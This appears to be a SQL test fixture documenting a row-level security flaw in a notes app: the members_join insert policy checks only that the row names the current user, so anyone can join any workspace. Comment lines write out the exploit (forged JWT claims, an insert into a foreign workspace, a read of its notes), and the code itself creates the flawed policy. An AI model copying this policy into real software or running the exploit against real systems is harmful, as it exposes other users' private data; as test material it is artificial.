-- A user adds himself to any workspace, for the insert policy checks only that the row is about him.
-- about: members, members_join
-- as: hf_notes_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: INSERT INTO members VALUES ('22222222-2222-2222-2222-222222222222',
-- exploit:   'aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa', 'guest');
-- exploit: SELECT title FROM notes;
-- shows: Road-secret merger
-- Joining after the click on an invitation.
GRANT INSERT ON members TO hf_notes_app;
CREATE POLICY members_join ON members FOR INSERT WITH CHECK (user_id = auth.uid());
